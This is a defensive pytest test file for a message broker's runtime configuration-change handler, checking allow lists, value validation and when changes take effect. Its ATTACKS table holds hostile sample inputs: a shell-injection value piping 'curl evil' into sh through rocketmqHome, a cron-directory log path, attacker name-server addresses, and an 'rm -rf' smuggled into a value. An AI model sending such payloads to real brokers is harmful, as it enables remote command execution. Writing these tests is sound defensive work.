"""Changes of settings at run time: what is allowed, when they are in force, what stays of them."""

from __future__ import annotations

import pytest

from engine.broker.settings.config_changes import MAX_TEXT_BYTES, ConfigChanges, encode_changes
from engine.broker.settings.options import OPTION_KEYS, LiveOptions
from engine.daemon.options import ADDRESSES, HOST, PATH
from engine.errors import EngineError
from engine.protocol.codes import ResponseCode

ATTACKS = {
    "shell through rocketmqHome": b"rocketmqHome=-c $@|sh . echo curl evil|sh;\n",
    "filter servers": b"filterServerNums=1\n",
    "both": b"filterServerNums=1\nrocketmqHome=-c $@|sh . echo id > /var/pwned;\n",
    "second property on a later line": b"maxMessageSize=1024\nrocketmqHome=/var/x\n",
    "second property behind a carriage return": b"maxMessageSize=1024\rrocketmqHome=/var/x",
    "store path": b"storePathRootDir=/var/pwned\n",
    "commit log path": b"storePathCommitLog=/var/pwned\n",
    "its own config path": b"brokerConfigPath=/var/pwned\n",
    "block list": b"configBlackList=none\n",
    "log folder": b"logDir=/etc/cron.d\n",
    "name servers": b"namesrvAddr=evil.example:9876\n",
    "advertised address": b"brokerIP1=evil.example\n",
    "port": b"listenPort=1\n",
    "python's own": b"__class__=x\n",
    "attribute name": b"broker_permission=2\n",
    "case trick": b"BrokerPermission=2\n",
    "upper case": b"BROKERPERMISSION=2\n",
    "unicode escape": b"rocketmq\\u0048ome=/var/x\n",
    "unknown": b"noSuchKey=1\n",
}


@pytest.fixture
def live() -> LiveOptions:
    return LiveOptions()


@pytest.fixture
def changes(live: LiveOptions) -> ConfigChanges:
    return ConfigChanges(live)


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_is_not_on_the_allow_list_is_forbidden(
    changes: ConfigChanges, live: LiveOptions, text: bytes
) -> None:
    with pytest.raises(EngineError) as refusal:
        changes.plan(text)
    assert refusal.value.code == ResponseCode.NO_PERMISSION
    assert live == LiveOptions()
    assert changes.snapshot() == {}


@pytest.mark.parametrize(
    "text",
    [
        b"maxMessageSize=1e6",
        b"maxMessageSize=-1",
        b"maxMessageSize=99999999999999999999999999",
        b"maxMessageSize=" + b"1" * 60_000,
        b"maxMessageSize=",
        b"brokerPermission=8",
        b"autoCreateTopicEnable=yes",
        b"logLevel=TRACE; rm -rf",
        b"deleteWhen=25",
        b"defaultTopicQueueNums=2147483647",
        b"maxMessageSize=1024\nbrokerPermission=lots",
        b"",
        b"# only a comment\n",
    ],
)
def test_a_bad_value_refuses_the_whole_request(
    changes: ConfigChanges, live: LiveOptions, text: bytes
) -> None:
    with pytest.raises(EngineError) as refusal:
        changes.plan(text)
    assert refusal.value.code == ResponseCode.INVALID_PARAMETER
    assert len(refusal.value.text) < 1_000
    assert live == LiveOptions()


@pytest.mark.parametrize("text", [b"maxMessageSize=" + b"1" * MAX_TEXT_BYTES, b"\xff\xfe=1"])
def test_text_that_is_too_long_or_no_text_is_refused(changes: ConfigChanges, text: bytes) -> None:
    with pytest.raises(EngineError):
        changes.plan(text)


def test_no_path_and_no_address_can_ever_be_changed() -> None:
    kinds = [key.kind for key in OPTION_KEYS.values() if key.is_live]
    assert not [kind for kind in kinds if kind in (PATH, HOST, ADDRESSES)]
    assert not [name for name, key in OPTION_KEYS.items() if key.is_live and "path" in name.lower()]


def test_a_change_is_in_force_once_it_is_on_disk(changes: ConfigChanges, live: LiveOptions) -> None:
    told: list[frozenset[str]] = []
    changes.on_change = told.append
    settings = changes.plan(b"fileReservedTime=48\nbrokerPermission=4\n")
    changes.stage(settings, now_ms=5)
    assert (live.file_reserved_time, live.broker_permission) == (72, 6)
    changes.saved(changes.snapshot())
    assert (live.file_reserved_time, live.broker_permission) == (48, 4)
    assert told == [frozenset({"file_reserved_time", "broker_permission"})]
    assert (changes.version.counter, changes.version.timestamp) == (1, 5)


def test_a_change_that_could_not_be_written_is_not_in_force(
    changes: ConfigChanges, live: LiveOptions
) -> None:
    changes.stage(changes.plan(b"fileReservedTime=48"), 0)
    changes.failed()
    changes.saved(changes.snapshot())
    assert live == LiveOptions()


def test_a_change_that_comes_while_another_is_written_waits_for_the_next(
    changes: ConfigChanges, live: LiveOptions
) -> None:
    changes.stage(changes.plan(b"fileReservedTime=48"), 0)
    first = changes.snapshot()
    changes.stage(changes.plan(b"brokerPermission=4"), 0)
    changes.saved(first)
    assert (live.file_reserved_time, live.broker_permission) == (48, 6)
    changes.saved(changes.snapshot())
    assert live.broker_permission == 4


def test_what_is_so_already_is_no_change(changes: ConfigChanges) -> None:
    assert changes.plan(b"brokerPermission=6") == {}


def test_the_file_brings_changes_back_and_names_what_it_may_not(live: LiveOptions) -> None:
    text = encode_changes({"fileReservedTime": "48"}).decode() + "rocketmqHome=/x\nbrokerPermission=99\n"
    changes = ConfigChanges(live)
    refused = changes.restore(text)
    assert live.file_reserved_time == 48
    assert live.broker_permission == 6
    assert len(refused) == 2 and "rocketmqHome" in refused[0] and "brokerPermission=99" in refused[1]
    assert changes.snapshot() == {"fileReservedTime": "48"}
